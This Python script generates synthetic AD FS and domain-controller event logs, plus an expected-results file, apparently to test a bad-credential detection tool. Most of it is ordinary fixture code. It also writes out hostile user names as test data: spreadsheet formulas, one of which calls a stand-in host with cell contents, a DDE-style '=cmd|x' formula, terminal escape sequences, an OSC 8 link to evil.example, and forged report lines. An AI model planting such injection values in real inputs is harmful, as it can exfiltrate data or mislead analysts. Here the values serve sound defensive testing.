#!/usr/bin/python3
"""mkfixtures.py: writes AD FS farm fixtures (real EVTX files, XML exports) and the bad-credential attempts they
contain, derived from the scenario parameters below (not from badcreds' output).

usage: mkfixtures.py OUT_DIR
Writes OUT_DIR/<server>.evtx per server and the same events as <server>.xml (wevtutil qe /f:xml form: what the
events are meant to hold), ADFS-JP-saved.xml (Event Viewer "Save as XML" form), ADFS03-damaged.evtx (cut in its
second chunk), and expected.json: every attempt with server,
time, user as typed, submitter IP, outcome, relying party and client application (where its events name them), in
time order, plus the event counts per file.

Scenarios (the event layouts are those src/scan/facts.c describes and reads):
  contoso, AD FS 2016+ (ADFS01, ADFS02), English, verbose audits 403/410/411/412/501/1203 + 4625:
    a password spray from one public IP over 12 users in 84 s (one unknown user), a brute force that ends in extranet
    lockout (516 + 1210, no 4625 any more) and later an AD lockout of the same account, an AD lockout (4625
    0xC0000234), a legacy-authentication spray of ten users relayed by Exchange Online, a stale service credential typed as
    DOMAIN\\user from a private IP every 10 minutes, legacy auth proxied by Exchange Online (zero activity ID,
    attacker IPv6 in x-ms-forwarded-client-ip, more request-context claims than one 501 holds: the client
    application is in the second 501), hyphenated user names, a user name typed as a spreadsheet formula,
    one success (412) that is not an attempt.
  fabrikam, AD FS 2012 R2 (ADFS-OLD), French: 411 with and without the client IP field (hotfix 3134222 missing),
    IP then only in 501; a 411 alone whose French text says the account is locked.
  AD FS 2016 in Japanese (ADFS-JP): 1203 + 411 + 4625, and a 411 alone with the Japanese message.
  LOCALE-en/fr/de/es/ja: the same four requests on farms in five languages (411 alone with a lockout message,
    411 alone with a bad-password message, 4625 + 411 without the IP field).
  DC01: the domain controller's 4740 for the AD lockout ADFS02 caused, and 4776s for bob from ADFS01.
  ADFS03: two attempts, then filler events over a second chunk that is cut in the middle.
"""
import datetime
import json
import os
import re
import struct
import sys
import uuid
import xml.etree.ElementTree as ET
from xml.sax.saxutils import escape

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from evtx_writer import (BINXML, NULL, Element, FILETIME, GUID, HEXINT32, HEXINT64, SID, STRING, STRING_ARRAY,  # noqa
                         Sub, Template, UINT8, UINT16, UINT32, UINT64, write_file, HEADER, CHUNK)

EPOCH = datetime.datetime(1601, 1, 1, tzinfo=datetime.timezone.utc)
BASE = datetime.datetime(2026, 11, 20, 8, 0, 0, tzinfo=datetime.timezone.utc)
SECURITY_GUID = '{54849625-5478-4994-a5ba-3e3b0328c30d}'
NS = 'http://schemas.microsoft.com/win/2004/08/events/event'
ZERO = '00000000-0000-0000-0000-000000000000'
SERVICE_HOST = 'C:\\Windows\\ADFS\\Microsoft.IdentityServer.ServiceHost.exe'
USERNAME_TOKEN = 'http://schemas.microsoft.com/ws/2006/05/identitymodel/tokens/UserName'
RC = 'http://schemas.microsoft.com/2012/01/requestcontext/claims/'
RELYING_PARTY = 'urn:federation:MicrosoftOnline'  # Microsoft 365's relying party trust: 412 Data[3], <RelyingParty>

MESSAGES = {  # Win32 texts AD FS appends to 411 Data[2], by farm language
    'en': {'bad': 'The user name or password is incorrect',
           'locked': 'The referenced account is currently locked out and may not be logged on to'},
    'fr': {'bad': "Le nom d'utilisateur ou le mot de passe est incorrect",
           'locked': 'Le compte référencé est actuellement verrouillé et il se peut qu’il ne soit pas possible de '
                     's’y connecter'},
    'de': {'bad': 'Der Benutzername oder das Kennwort ist falsch',
           'locked': 'Das angegebene Konto ist derzeit gesperrt und kann nicht für die Anmeldung verwendet werden'},
    'es': {'bad': 'El nombre de usuario o la contraseña no son correctos',
           'locked': 'La cuenta a la que se hace referencia está bloqueada y no se puede utilizar'},
    'ja': {'bad': 'ユーザー名またはパスワードが正しくありません',
           'locked': '参照されたアカウントは現在ロックアウトされているため、ログオンできない可能性があります'},
}

# System template shared by every event: values 0-16, then 17 = EventData (nested BinXml or a StringArray).
def system(eventdata):
    s = Element('System', children=[
        Element('Provider', [('Name', Sub(0, STRING)), ('Guid', Sub(1, GUID, optional=True))]),
        Element('EventID', [('Qualifiers', Sub(2, UINT16, optional=True))], [Sub(3, UINT16)]),
        Element('Version', children=[Sub(4, UINT8)]),
        Element('Level', children=[Sub(5, UINT8)]),
        Element('Task', children=[Sub(6, UINT16)]),
        Element('Opcode', children=[Sub(7, UINT8)]),
        Element('Keywords', children=[Sub(8, HEXINT64)]),
        Element('TimeCreated', [('SystemTime', Sub(9, FILETIME))]),
        Element('EventRecordID', children=[Sub(10, UINT64)]),
        Element('Correlation', [('ActivityID', Sub(11, GUID, optional=True))]),
        Element('Execution', [('ProcessID', Sub(12, UINT32)), ('ThreadID', Sub(13, UINT32))]),
        Element('Channel', children=[Sub(14, STRING)]),
        Element('Computer', children=[Sub(15, STRING)]),
        Element('Security', [('UserID', Sub(16, SID, optional=True))]),
    ])
    return Element('Event', [('xmlns', NS)], [s, eventdata])

MODERN = Template('system-binxml', system(Sub(17, BINXML)))
CLASSIC = Template('system-classic', system(Element('EventData', children=[
    Element('Data', children=[Sub(17, STRING_ARRAY, dependency=True)])])))

F4625 = [('SubjectUserSid', SID), ('SubjectUserName', STRING), ('SubjectDomainName', STRING),
         ('SubjectLogonId', HEXINT64), ('TargetUserSid', SID), ('TargetUserName', STRING),
         ('TargetDomainName', STRING), ('Status', HEXINT32), ('FailureReason', STRING), ('SubStatus', HEXINT32),
         ('LogonType', UINT32), ('LogonProcessName', STRING), ('AuthenticationPackageName', STRING),
         ('WorkstationName', STRING), ('TransmittedServices', STRING), ('LmPackageName', STRING),
         ('KeyLength', UINT32), ('ProcessId', HEXINT64), ('ProcessName', STRING), ('IpAddress', STRING),
         ('IpPort', STRING)]
F4624 = [('SubjectUserSid', SID), ('SubjectUserName', STRING), ('TargetUserName', STRING), ('LogonType', UINT32),
         ('IpAddress', STRING)]


class Provider:
    """The System part of a manifest-based provider's events."""

    def __init__(self, name, guid, channel, task, qualifiers=None, level=0, failure_ids=()):
        self.name, self.guid, self.channel, self.task = name, guid, channel, task
        self.qualifiers, self.level, self.failure_ids = qualifiers, level, failure_ids

    def keywords(self, event_id):
        if self.channel != 'Security':
            return 0x8080000000000000  # Classic
        return 0x8010000000000000 if event_id in self.failure_ids else 0x8020000000000000  # audit failure/success


SECURITY = Provider('Microsoft-Windows-Security-Auditing', SECURITY_GUID, 'Security', 12544,
                    failure_ids=(4625, 4771, 4776))


def named_template(name, fields):
    return Template(name, Element('EventData', children=[
        Element('Data', [('Name', n)], [Sub(i, t)]) for i, (n, t) in enumerate(fields)]))


F4740 = [('TargetUserName', STRING), ('TargetDomainName', STRING), ('TargetSid', SID), ('SubjectUserSid', SID),
         ('SubjectUserName', STRING), ('SubjectDomainName', STRING), ('SubjectLogonId', HEXINT64)]
F4776 = [('PackageName', STRING), ('TargetUserName', STRING), ('Workstation', STRING), ('Status', HEXINT32)]
TEMPLATES = {id(F4625): named_template('4625', F4625), id(F4624): named_template('4624', F4624),
             id(F4740): named_template('4740', F4740), id(F4776): named_template('4776', F4776)}


def filetime(t):
    d = t - EPOCH
    return (d.days * 86400 + d.seconds) * 10**7 + d.microseconds * 10


def iso(t):
    return t.strftime('%Y-%m-%dT%H:%M:%S.') + f'{t.microsecond:06d}' + '0Z'


class Log:
    """The events of one server, kept as (time, kind, fields) so they can go to EVTX or XML."""

    def __init__(self, server, locale='en'):
        self.server, self.locale, self.events = server, locale, []

    def adfs(self, t, event_id, data, failure=True):
        self.events.append((t, 'adfs', event_id, data, failure))

    def security(self, t, event_id, fields, values, provider=None):
        """A manifest-based event: the Security auditing provider's unless `provider` (a Provider) says otherwise."""
        self.events.append((t, 'security', event_id, (fields, values, provider or SECURITY), True))

    def records(self):
        """(filetime, template, values) in time order, EventRecordID = position."""
        out = []
        for n, (t, kind, event_id, data, failure) in enumerate(sorted(self.events, key=lambda e: e[0]), 1):
            if kind == 'adfs':
                data = [d.split('\0')[0] for d in data]  # ReportEvent's insert strings end at a NUL
                keywords = 0x8090000000000000 if failure else 0x80a0000000000000
                values = [(STRING, 'AD FS Auditing'), (GUID, None), (UINT16, 0), (UINT16, event_id), (UINT8, 0),
                          (UINT8, 0), (UINT16, 3), (UINT8, 0), (HEXINT64, keywords), (FILETIME, filetime(t)),
                          (UINT64, n), (GUID, None), (UINT32, 2244), (UINT32, 5120), (STRING, 'Security'),
                          (STRING, self.server), (SID, None), (STRING_ARRAY, data)]
                out.append((filetime(t), CLASSIC, values))
            else:
                fields, vals, p = data
                tpl = TEMPLATES[id(fields)]
                values = [(STRING, p.name), (GUID, p.guid), (UINT16, p.qualifiers), (UINT16, event_id),
                          (UINT8, 0), (UINT8, p.level), (UINT16, p.task), (UINT8, 0), (HEXINT64, p.keywords(event_id)),
                          (FILETIME, filetime(t)), (UINT64, n), (GUID, None), (UINT32, 708), (UINT32, 1488),
                          (STRING, p.channel), (STRING, self.server), (SID, None),
                          (BINXML, (tpl, [(ft, v) for (_, ft), v in zip(fields, vals)]))]
                out.append((filetime(t), MODERN, values))
        return out

    def xml_events(self):
        """The same events as Windows renders them in XML (wevtutil qe /f:xml)."""
        out = []
        for n, (t, kind, event_id, data, failure) in enumerate(sorted(self.events, key=lambda e: e[0]), 1):
            ev = ET.Element('Event', xmlns=NS)
            s = ET.SubElement(ev, 'System')
            if kind == 'adfs':
                ET.SubElement(s, 'Provider', Name='AD FS Auditing')
                ET.SubElement(s, 'EventID', Qualifiers='0').text = str(event_id)
            else:
                p = data[2]
                ET.SubElement(s, 'Provider', Name=p.name, Guid=p.guid.upper())
                if p.qualifiers is None:
                    ET.SubElement(s, 'EventID').text = str(event_id)
                else:
                    ET.SubElement(s, 'EventID', Qualifiers=str(p.qualifiers)).text = str(event_id)
            ET.SubElement(s, 'TimeCreated', SystemTime=iso(t))
            ET.SubElement(s, 'EventRecordID').text = str(n)
            ET.SubElement(s, 'Channel').text = 'Security' if kind == 'adfs' else data[2].channel
            ET.SubElement(s, 'Computer').text = self.server
            ed = ET.SubElement(ev, 'EventData')
            if kind == 'adfs':
                for item in data:
                    ET.SubElement(ed, 'Data').text = item.split('\0')[0]
            else:
                fields, vals, _ = data
                for (name, ftype), v in zip(fields, vals):
                    text = hex(v) if ftype in (HEXINT32, HEXINT64) else str(v)
                    ET.SubElement(ed, 'Data', Name=name).text = text
            out.append(ET.tostring(ev, encoding='unicode'))
        return out


def xml_text(s):
    """Text inside the AuditBase document, escaped as .NET's XML writer does (controls as character references)."""
    return re.sub('[\x00-\x08\x0b\x0c\x0e-\x1f]', lambda m: '&#x%X;' % ord(m.group(0)), escape(s))


def audit_xml(kind, user, ip, forwarded='', lockout=None, endpoint='/adfs/ls/'):
    """Data[1] of 1203/1210: the AuditBase document, as AD FS writes it."""
    failure = 'ExtranetLockoutError' if lockout else 'CredentialValidationError'
    code = 'AccountRestrictedAudit' if lockout else 'N/A'
    lock = ''
    if lockout:
        lock = ('<Component xsi:type="LockoutConfigAuditComponent"><CurrentBadPasswordCount>%d'
                '</CurrentBadPasswordCount><ConfigBadPasswordCount>5</ConfigBadPasswordCount><LastBadAttempt>'
                '11/20/2026 08:00:00</LastBadAttempt><LockoutWindowConfig>00:30:00</LockoutWindowConfig>'
                '</Component>' % lockout)
    return ('<?xml version="1.0" encoding="utf-16"?>\r\n<AuditBase xmlns:xsd="http://www.w3.org/2001/XMLSchema" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="%s"><AuditType>FreshCredentials'
            '</AuditType><AuditResult>Failure</AuditResult><FailureType>%s</FailureType><ErrorCode>%s</ErrorCode>'
            '<ContextComponents><Component xsi:type="ResourceAuditComponent"><RelyingParty>%s'
            '</RelyingParty><ClaimsProvider>N/A</ClaimsProvider><UserId>%s</UserId></Component>'
            '<Component xsi:type="RequestAuditComponent"><Server>http://sts.contoso.com/adfs/services/trust'
            '</Server><AuthProtocol>WSFederation</AuthProtocol><NetworkLocation>Extranet</NetworkLocation>'
            '<IpAddress>%s</IpAddress><ForwardedIpAddress>%s</ForwardedIpAddress><ProxyIpAddress>N/A'
            '</ProxyIpAddress><NetworkIpAddress>N/A</NetworkIpAddress><ProxyServer>WAP01</ProxyServer>'
            '<UserAgentString>Mozilla/5.0</UserAgentString><Endpoint>%s</Endpoint></Component>%s'
            '</ContextComponents></AuditBase>' % (kind, failure, code, RELYING_PARTY, xml_text(user), xml_text(ip),
                                                  xml_text(forwarded), endpoint, lock))


def claims_501(instance, pairs):
    data = [instance]
    for claim, value in pairs:
        data += [claim, value]
    return data + ['-'] * (21 - len(data))


def claims_501s(instance, pairs):
    """The 501 events of one request: ten claims each, further ones in further 501s with the same instance ID."""
    return [claims_501(instance, pairs[i:i + 10]) for i in range(0, len(pairs), 10)]


class Farm:
    def __init__(self):
        self.logs, self.expected, self.dc_lockouts, self.successes = {}, [], [], []

    def log(self, server, locale='en'):
        return self.logs.setdefault(server, Log(server, locale))

    def expect(self, log, t, user, ip, outcome, claimed='', relying_party='', client_app='', endpoint='',
               addresses=(), relayed=False):
        """An attempt the events hold; `addresses`: every address they name besides the submitter's; relayed:
        legacy authentication that Exchange Online relayed (zero activity ID)."""
        self.expected.append({'server': log.server, 'time': iso(t), 'user': user, 'ip': ip, 'outcome': outcome,
                              'client_supplied': claimed, 'relying_party': relying_party, 'client_app': client_app,
                              'endpoint': endpoint, 'addresses': sorted({ip, *addresses} - {'', None}),
                              'relayed': relayed})

    def attempt_2016(self, log, t, user, ip, outcome='bad_password', status=0xC000006D, sub=0xC000006A,
                     exo=False, forwarded=None, with_4625=True, message=True, claimed=None):
        """One request with a bad credential on AD FS 2016+ at verbose audit level. `claimed`: an address the client
        put in X-Forwarded-For itself, which goes before the others in every list."""
        activity = ZERO if exo else str(uuid.uuid5(uuid.NAMESPACE_DNS, f'{log.server}{t}{user}'))
        instance = str(uuid.uuid5(uuid.NAMESPACE_URL, f'{log.server}{t}{user}'))
        ms = datetime.timedelta(milliseconds=1)
        ip_list = f'{forwarded},{ip}' if forwarded else ip
        submitter = forwarded or ip
        if claimed:
            ip_list = f'{claimed},{ip_list}'
        endpoint = '/adfs/services/trust/2005/usernamemixed' if exo else '/adfs/ls/'  # EXO: WS-Trust, active
        log.adfs(t, 403, [instance, activity, t.strftime('%Y-%m-%d %H:%M:%S'), ip, 'POST', endpoint, '',
                          '443', '10.0.0.5', 'Mozilla/5.0', '1234'])
        if with_4625:
            domain, target = ('', user) if '\\' not in user else user.split('\\', 1)
            log.security(t + ms, 4625, F4625, [
                'S-1-5-21-1004336348-1177238915-682003330-1105', 'adfssvc$', 'CONTOSO', 0x3e7, 'S-1-0-0', target,
                domain, status, '%%2313' if status != 0xC0000234 else '%%2307', sub, 3, 'W', 'Negotiate',
                log.server, '-', '-', 0, 0xd34, SERVICE_HOST, '-', '-'])
        text = MESSAGES[log.locale]['locked' if outcome == 'ad_locked_out' else 'bad']
        log.adfs(t + 2 * ms, 1203, [activity, audit_xml('FreshCredentialAudit', user, ip_list, forwarded or '',
                                                         endpoint=endpoint)])
        log.adfs(t + 3 * ms, 411, [activity, USERNAME_TOKEN, f'{user}-{text}' if message else user,
                                   f'System.IdentityModel.Tokens.SecurityTokenValidationException: {user} ---> '
                                   f'System.ComponentModel.Win32Exception: {text}', ip_list])
        claims = [(RC + 'x-ms-client-ip', ip), (RC + 'x-ms-endpoint-absolute-path', '/adfs/ls/')]
        if claimed:
            claims.append((RC + 'x-ms-forwarded-client-ip', ip_list))
        if exo:  # Exchange Online sends more request context than one 501 holds: the client application is in the
            # second (the order of the claims is AD FS's own, not one to rely on)
            claims = [(RC + 'x-ms-client-ip', ip), (RC + 'x-ms-forwarded-client-ip', forwarded),
                      (RC + 'x-ms-forwarded-client-ip', ip),  # multi-valued: one pair per value
                      ('http://schemas.microsoft.com/2014/09/requestcontext/claims/userip', forwarded),
                      ('http://schemas.microsoft.com/ws/2012/01/insidecorporatenetwork', 'false'),
                      (RC + 'x-ms-proxy', 'WAP01'),
                      (RC + 'x-ms-endpoint-absolute-path', endpoint),
                      (RC + 'x-ms-client-user-agent', 'Apple-iPhone14C2/2006.100'),
                      (RC + 'client-request-id', str(uuid.uuid5(uuid.NAMESPACE_OID, instance))),
                      (RC + 'relyingpartytrustid', RELYING_PARTY),
                      (RC + 'x-ms-client-application', 'Microsoft.Exchange.ActiveSync')]
        for i, data in enumerate(claims_501s(instance, claims)):
            log.adfs(t + (4 + i) * ms, 501, data)
        self.expect(log, t, user, submitter, outcome, claimed or '', RELYING_PARTY,
                    'Microsoft.Exchange.ActiveSync' if exo else '', endpoint, [claimed, forwarded, ip], exo)

    def success_2016(self, log, t, user, ip):
        activity = str(uuid.uuid5(uuid.NAMESPACE_DNS, f'ok{log.server}{t}{user}'))
        instance = str(uuid.uuid5(uuid.NAMESPACE_URL, f'ok{log.server}{t}{user}'))
        ms = datetime.timedelta(milliseconds=1)
        log.adfs(t, 403, [instance, activity, t.strftime('%Y-%m-%d %H:%M:%S'), ip, 'POST', '/adfs/ls/', '', '443',
                          '10.0.0.5', 'Mozilla/5.0', '1234'], failure=False)
        log.adfs(t + ms, 1202, [activity, audit_xml('FreshCredentialAudit', user, ip).replace(
            '<AuditResult>Failure</AuditResult>', '<AuditResult>Success</AuditResult>').replace(
            'CredentialValidationError', 'None')], failure=False)
        log.adfs(t + 2 * ms, 412, [instance, activity, USERNAME_TOKEN, RELYING_PARTY],
                 failure=False)
        log.adfs(t + 3 * ms, 501, claims_501(instance, [
            ('http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn', user), (RC + 'x-ms-client-ip', ip)]),
            failure=False)
        self.successes.append({'user': user, 'ip': ip, 'time': iso(t)})

    def extranet_lockout(self, log, t, user, ip, count):
        activity = str(uuid.uuid5(uuid.NAMESPACE_DNS, f'lock{log.server}{t}{user}'))
        ms = datetime.timedelta(milliseconds=1)
        log.adfs(t, 516, [activity, user, ip, str(count), '11/20/2026 08:00:00'])
        log.adfs(t + ms, 1210, [activity, audit_xml('ExtranetLockoutAudit', user, ip, lockout=count)])
        self.expect(log, t, user, ip, 'extranet_locked_out', relying_party=RELYING_PARTY, endpoint='/adfs/ls/')

    def attempt_2012r2(self, log, t, user, ip, outcome='bad_password', ip_field=True, with_4625=True):
        activity = str(uuid.uuid5(uuid.NAMESPACE_DNS, f'{log.server}{t}{user}'))
        instance = str(uuid.uuid5(uuid.NAMESPACE_URL, f'{log.server}{t}{user}'))
        ms = datetime.timedelta(milliseconds=1)
        if with_4625:
            status = 0xC0000234 if outcome == 'ad_locked_out' else 0xC000006D
            log.security(t, 4625, F4625, [
                'S-1-5-21-1004336348-1177238915-682003330-1105', 'adfssvc', 'FABRIKAM', 0x3e7, 'S-1-0-0', user, '',
                status, '%%2313', 0xC000006A, 3, 'W', 'Negotiate', log.server, '-', '-', 0, 0x8d4, SERVICE_HOST,
                '-', '-'])
        text = MESSAGES[log.locale]['locked' if outcome == 'ad_locked_out' else 'bad']
        data = [activity, USERNAME_TOKEN, f'{user}-{text}',
                f'System.IdentityModel.Tokens.SecurityTokenValidationException: {user} ---> '
                f'System.ComponentModel.Win32Exception: {text}']
        if ip_field:
            data.append(ip)
        log.adfs(t + ms, 411, data)
        log.adfs(t + 2 * ms, 501, claims_501(instance, [(RC + 'x-ms-client-ip', ip)]))
        self.expect(log, t if with_4625 else t + ms, user, ip, outcome)  # the request's first event


def build(out):
    farm = Farm()
    minute = datetime.timedelta(minutes=1)
    a1, a2 = farm.log('ADFS01.contoso.com'), farm.log('ADFS02.contoso.com')
    # password spray: one public IP, many users, alternating servers
    spray = ['alice@contoso.com', 'bob.o-neil@contoso-corp.com', 'jean-luc@contoso.com', 'dave@contoso.com',
             'erin@contoso.com', 'frank@contoso.com', 'grace@contoso.com', 'nobody@contoso.com', 'heidi@contoso.com',
             'ivan.p@contoso.com', 'mallory@contoso.com', 'oscar@contoso.com']
    for i, user in enumerate(spray):
        unknown = user.startswith('nobody')
        farm.attempt_2016(a1 if i % 2 == 0 else a2, BASE + i * 7 * datetime.timedelta(seconds=1), user,
                          '203.0.113.50', 'unknown_user' if unknown else 'bad_password',
                          sub=0xC0000064 if unknown else 0xC000006A)
    # brute force on one user until the extranet lockout, which then answers without asking a DC
    t = BASE + 30 * minute
    for i in range(5):
        farm.attempt_2016(a1, t + i * 20 * datetime.timedelta(seconds=1), 'bob.o-neil@contoso-corp.com',
                          '198.51.100.7')
    for i in range(3):
        farm.extranet_lockout(a1, t + (120 + 30 * i) * datetime.timedelta(seconds=1), 'bob.o-neil@contoso-corp.com',
                              '198.51.100.7', 5 + i)
    # AD account lockout reported by the DC through 4625 0xC0000234
    farm.attempt_2016(a2, BASE + 50 * minute, 'jean-luc@contoso.com', '198.51.100.9', 'ad_locked_out',
                      status=0xC0000234, sub=0)
    # a service with an old password: DOMAIN\user from a private IP every 10 minutes
    for i in range(6):
        farm.attempt_2016(a2, BASE + 60 * minute + i * 10 * minute, 'CONTOSO\\svc-sql', '10.1.2.3')
    # legacy auth through Exchange Online: zero activity ID, the attacker's IPv6 forwarded by EXO
    for i in range(3):
        farm.attempt_2016(a1, BASE + 130 * minute + i * minute, 'carol@contoso.com', '40.92.0.10', exo=True,
                          forwarded='2001:db8::1234')
    # a legacy-authentication spray through Exchange Online: ten users from one client, relayed by EXO
    for i, user in enumerate(['ann', 'ben', 'cal', 'dee', 'eve', 'fay', 'gus', 'hal', 'ida', 'jon']):
        farm.attempt_2016(a2, BASE + 150 * minute + i * 20 * datetime.timedelta(seconds=1), f'{user}@contoso.com',
                          '40.92.0.11', exo=True, forwarded='2001:db8::66')
    # bob, locked on the extranet by the brute force, is later locked in AD too (a DC answers 0xC0000234)
    farm.attempt_2016(a2, BASE + 45 * minute, 'bob.o-neil@contoso-corp.com', '198.51.100.7', 'ad_locked_out',
                      status=0xC0000234, sub=0)
    # a user name typed to be run as a spreadsheet formula
    farm.attempt_2016(a2, BASE + 135 * minute, '=HYPERLINK("http://x.example/?"&A1)@contoso.com', '203.0.113.66')
    # after the spray, the sprayer gets in as alice (412 + 1202 + 501 with her UPN): not an attempt, but the summary
    # must say that a success followed her failure from the same address
    farm.success_2016(a1, BASE + 140 * minute, 'alice@contoso.com', '203.0.113.50')

    old = farm.log('ADFS-OLD.fabrikam.fr', 'fr')
    farm.attempt_2012r2(old, BASE + 10 * minute, 'marie@fabrikam.fr', '192.0.2.44')
    farm.attempt_2012r2(old, BASE + 11 * minute, 'marie@fabrikam.fr', '192.0.2.44', ip_field=False)
    farm.attempt_2012r2(old, BASE + 12 * minute, 'paul@fabrikam.fr', '192.0.2.45', 'ad_locked_out', with_4625=False)

    jp = farm.log('ADFS-JP.contoso.co.jp', 'ja')
    farm.attempt_2016(jp, BASE + 20 * minute, 'taro@contoso.co.jp', '203.0.113.77')
    farm.attempt_2016(jp, BASE + 21 * minute, 'hanako@contoso.co.jp', '203.0.113.78', with_4625=False)

    # the same requests on farms that speak five languages: only the server names may differ in the report
    for k, locale in enumerate(('en', 'fr', 'de', 'es', 'ja')):
        lf = farm.log(f'LOCALE-{locale}.contoso.com', locale)
        t0 = BASE + datetime.timedelta(hours=3)
        farm.attempt_2016(lf, t0, 'anna@contoso.com', '203.0.113.120')
        farm.attempt_2012r2(lf, t0 + minute, 'ben@contoso.com', '203.0.113.121', 'ad_locked_out', with_4625=False)
        farm.attempt_2012r2(lf, t0 + 2 * minute, 'cara@contoso.com', '203.0.113.122', with_4625=False)
        farm.attempt_2012r2(lf, t0 + 3 * minute, 'dan-el@contoso.com', '203.0.113.123', ip_field=False)

    # the domain controller: the AD lockout that ADFS02 caused for jean-luc (caller computer ADFS02), and the NTLM
    # validations ADFS01 asked for during bob's brute force
    dc = farm.log('DC01.contoso.com')
    t = BASE + 50 * minute
    dc.security(t + 2 * datetime.timedelta(seconds=1), 4740, F4740, [
        'jean-luc', 'ADFS02', 'S-1-5-21-1004336348-1177238915-682003330-1201', 'S-1-5-18', 'DC01$', 'CONTOSO',
        0x3e7])
    farm.dc_lockouts.append({'user': 'jean-luc@contoso.com', 'server': 'ADFS02.contoso.com', 'attempt': iso(t),
                             'dc': 'DC01.contoso.com'})
    for i in range(5):
        dc.security(BASE + 30 * minute + i * 20 * datetime.timedelta(seconds=1) + datetime.timedelta(milliseconds=1),
                    4776, F4776, ['MICROSOFT_AUTHENTICATION_PACKAGE_V1_0', 'bob.o-neil', 'ADFS01', 0xC000006A])

    damaged = farm.log('ADFS03.contoso.com')
    farm.attempt_2016(damaged, BASE + 5 * minute, 'ivan@contoso.com', '203.0.113.90')
    farm.attempt_2016(damaged, BASE + 6 * minute, 'judy@contoso.com', '203.0.113.91')
    for i in range(400):  # filler beyond the first chunk
        damaged.security(BASE + 7 * minute + i * datetime.timedelta(seconds=1), 4624, F4624,
                         ['S-1-5-18', 'ADFS03$', 'svc-backup', 5, '-'])

    os.makedirs(out, exist_ok=True)
    counts = {}
    for server, log in farm.logs.items():
        short = server.split('.')[0]
        name = f'{short}-damaged.evtx' if short == 'ADFS03' else f'{short}.evtx'
        path = os.path.join(out, name)
        write_file(path, log.records())
        counts[name] = len(log.events)
        with open(os.path.join(out, f'{short}.xml'), 'w', encoding='utf-8') as f:
            f.write(''.join(log.xml_events()))  # wevtutil qe Security /f:xml: events back to back, no root
        if short == 'ADFS03':
            with open(path, 'r+b') as f:
                f.truncate(HEADER + CHUNK + CHUNK // 2)
    events = jp.xml_events()
    with open(os.path.join(out, 'ADFS-JP-saved.xml'), 'w', encoding='utf-8') as f:
        f.write('<?xml version="1.0" encoding="utf-8" standalone="yes"?>\n<Events>' + ''.join(events) + '</Events>')
    expected = sorted(farm.expected, key=lambda e: (e['time'], e['server']))
    with open(os.path.join(out, 'expected.json'), 'w') as f:
        json.dump({'attempts': expected, 'events': counts, 'dc_lockouts': farm.dc_lockouts,
                   'dc_failures': {'bob.o-neil@contoso-corp.com': 5}, 'successes': farm.successes}, f, indent=1,
                  ensure_ascii=False)


# Names typed at a login page by someone who knows where they end up: terminal control sequences, line breaks that
# forge report lines, formulas behind blanks and in full-width forms, look-alikes, wide characters.
HOSTILE_USERS = [
    '\x1b]0;pwned\x07\x1b[2Jalice@contoso.com',                        # window title, clear screen
    '\x1b]8;;http://evil.example/\x1b\\bob\x1b]8;;\x1b\\@contoso.com',  # a hyperlink (OSC 8)
    'line1\nline2@contoso.com',
    'cr\r  password_spray    203.0.113.250: 99 users within 1 min (FORGED)@contoso.com',
    '  =1+1@contoso.com', '\n=1+1', '\u00a0=SUM(1)', '\uff1d1+1', '\t=cmd|x', '@SUM(1)', '\u3000+1',
    '\ufe66HYPERLINK("x")', '-2+3', '\u22121',
    'm\u00fcller@contoso.com', '\u5c71\u7530\u592a\u90ce@contoso.co.jp',
    'csi\u009b2Jx@contoso.com', 'rlo\u202etxt.exe@contoso.com', 'del\x7f@contoso.com',
]

GUID_AS_TEXT = Template('provider-guid-as-text', Element('Event', [('xmlns', NS)], [Element('System', children=[
    Element('Provider', [('Name', Sub(0, STRING)), ('Guid', Sub(1, STRING))]),
    Element('EventID', children=[Sub(2, UINT16)]),
    Element('TimeCreated', [('SystemTime', Sub(3, FILETIME))]),
    Element('EventRecordID', children=[Sub(4, UINT64)]),
    Element('Computer', children=[Sub(5, STRING)]),
])]))


def carved_file(path):
    """Ten live records; in the slack behind them a plausible older record (kept, flagged) and two remnants of
    overwritten data that still look like records: an EventRecordID far beyond the file's and a provider name made
    of stray UTF-16, and a Provider GUID that is text. Returns what a reader must make of it."""
    from evtx_writer import Chunk
    log = Log('CARVED01.contoso.com')
    for i in range(10):
        log.security(BASE + i * datetime.timedelta(seconds=1), 4624, F4624,
                     ['S-1-5-18', 'CARVED01$', f'user{i}', 3, '10.0.0.9'])
    records = log.records()
    live = Chunk(1, 1)
    for rid, (ft, tpl, vals) in enumerate(records, 1):
        live.add(rid, ft, tpl, vals)
    slack = Chunk(1, 1)  # the same chunk in an earlier life: its records reach into the live chunk's slack
    while slack.pos < live.pos:
        slack.add(1, records[0][0], records[0][1], records[0][2])
    start = slack.pos
    old = BASE - datetime.timedelta(days=1)
    slack.add(61925336790599168, filetime(old), CLASSIC, [
        (STRING, '\u89e3\uec73'), (GUID, None), (UINT16, 0), (UINT16, 411), (UINT8, 0), (UINT8, 0), (UINT16, 3),
        (UINT8, 0), (HEXINT64, 0), (FILETIME, filetime(old)), (UINT64, 61925336790599168), (GUID, None), (UINT32, 4),
        (UINT32, 4), (STRING, 'Security'), (STRING, 'CARVED01.contoso.com'), (SID, None), (STRING_ARRAY, ['x'])])
    slack.add(11, filetime(old), GUID_AS_TEXT, [
        (STRING, 'Microsoft-Windows-Security-Auditing'), (STRING, '\u4c45\u6e69\u2e6b\u0078'), (UINT16, 4624),
        (FILETIME, filetime(old)), (UINT64, 11), (STRING, 'CARVED01.contoso.com')])
    slack.add(12, filetime(old), CLASSIC, [
        (STRING, 'AD FS Auditing'), (GUID, None), (UINT16, 0), (UINT16, 403), (UINT8, 0), (UINT8, 0), (UINT16, 3),
        (UINT8, 0), (HEXINT64, 0x80a0000000000000), (FILETIME, filetime(old)), (UINT64, 12), (GUID, None),
        (UINT32, 4), (UINT32, 4), (STRING, 'Security'), (STRING, 'CARVED01.contoso.com'), (SID, None),
        (STRING_ARRAY, ['older record'])])
    chunk = bytearray(live.finish())
    chunk[start:slack.pos] = slack.buf[start:slack.pos]
    hdr = bytearray(HEADER)
    hdr[0:8] = b'ElfFile\0'
    struct.pack_into('<QQQIHHHH', hdr, 8, 0, 0, 11, 128, 1, 3, HEADER, 1)
    struct.pack_into('<I', hdr, 124, __import__('zlib').crc32(bytes(hdr[:120])))
    with open(path, 'wb') as f:
        f.write(hdr + chunk)
    return {'live': 10, 'carved_kept': [12], 'remnants': 2}


def fanout_file(path):
